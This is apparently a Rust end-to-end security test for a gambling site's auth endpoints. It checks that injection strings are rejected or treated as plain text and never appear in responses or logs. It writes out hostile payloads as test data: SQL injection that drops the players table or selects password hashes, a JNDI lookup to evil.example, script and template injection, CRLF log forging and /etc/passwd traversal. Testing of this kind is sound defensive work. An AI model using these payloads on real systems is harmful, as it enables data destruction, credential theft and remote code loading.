//! Texts that other systems would obey, in every field of every endpoint of auth: they are data or they are refused,
//! and no log shows them.

use igaming_e2e::{Account, Client, PASSWORD, lines_of, log_lines, unique_email};
use serde_json::{Value, json};

/// Found in no other line of the log.
const MARK: &str = "mark7f3a9c51";

fn texts() -> Vec<String> {
    [
        "' OR '1'='1' -- MARK",
        "'; DROP TABLE players; -- MARK",
        "\" || (SELECT password_hash FROM players) || \" MARK",
        "MARK\r\n{\"worker\":\"igaming-apex\",\"status\":200}",
        "MARK\u{1b}[2J\u{0}",
        "${jndi:ldap://evil.example/MARK}",
        "{{7*7}}<script>MARK</script>",
        "../../../etc/passwd%00MARK",
        "plr_00000000000000000000000000000000.MARK",
        "MARK\u{202e}\u{feff}",
    ]
    .map(|text| text.replace("MARK", MARK))
    .to_vec()
}

/// Each endpoint with fields that would pass.
fn bodies(account: &Account) -> Vec<(&'static str, Value)> {
    let ids = "otp_00000000000000000000000000000000";
    let register = json!({ "email": "", "password": "", "date_of_birth": "1990-01-01", "country": "BR" });
    vec![
        ("register", register),
        ("login", json!({ "email": account.email, "password": "x", "device_token": "x" })),
        ("refresh", json!({ "refresh_token": "x" })),
        ("forgot-password", json!({ "email": "x" })),
        ("reset-password", json!({ "token": "x", "new_password": PASSWORD })),
        ("verify-email", json!({ "token": "x" })),
        ("2fa/verify", json!({ "challenge": "x", "code": "000000" })),
        ("2fa/enable", json!({ "code": "000000" })),
        ("otp/send", json!({ "channel": "sms", "phone": "x" })),
        ("otp/verify", json!({ "request_id": ids, "code": "000000" })),
    ]
}

#[test]
fn no_field_is_obeyed_and_no_log_shows_it() {
    let account = Account::register(&Client::demo());
    let mut asked = Vec::new();
    for (name, body) in bodies(&account) {
        let path = format!("/api/auth/{name}");
        for field in body.as_object().expect("an object").keys() {
            for text in texts() {
                let mut sent = body.clone();
                sent[field] = json!(text);
                let call = account.client.post(&path, &sent);
                let needs_player = matches!(name, "2fa/enable" | "otp/send" | "otp/verify");
                let call = if needs_player { call.token(&account.access_token) } else { call };
                let answer = call.send();
                let passes = name == "forgot-password" && answer.status() == 202;
                assert!(passes || (400..500).contains(&answer.status()), "{field}: {answer:?}");
                let shown = String::from_utf8_lossy(answer.body()).into_owned();
                assert!(!shown.contains(MARK), "{field}: {answer:?}");
                asked.push(answer.request_id().to_owned());
            }
        }
    }
    account.assert_open();
    // Once the last line is there, all are.
    lines_of(asked.last().expect("a request"));
    for line in log_lines() {
        assert!(!line.contains(MARK) && !line.contains(&account.email), "{line}");
    }
}

/// What is a password or an address may be any text, and stays that text.
#[test]
fn a_password_may_be_any_text() {
    let client = Client::demo();
    for text in texts().into_iter().filter(|text| !text.contains('\u{0}')) {
        let email = unique_email();
        let body = json!({ "email": email, "password": text });
        client.post("/api/auth/register", &body).send().expect(201);
        client.post("/api/auth/login", &body).send().expect(200);
        let other = json!({ "email": email, "password": format!("{text} ") });
        client.post("/api/auth/login", &other).send().problem(401, "invalid_credentials");
    }
    assert!(log_lines().iter().all(|line| !line.contains(MARK)));
}

#[test]
fn a_path_is_no_query() {
    let account = Account::register(&Client::demo());
    for id in ["%27%20OR%201=1", "ses_00000000000000000000000000000000", "*", "ses_%25"] {
        let path = format!("/api/auth/sessions/{id}");
        let answer = account.client.call("DELETE", &path).token(&account.access_token).send();
        assert!(matches!(answer.status(), 400 | 404), "{answer:?}");
    }
    account.assert_open();
}
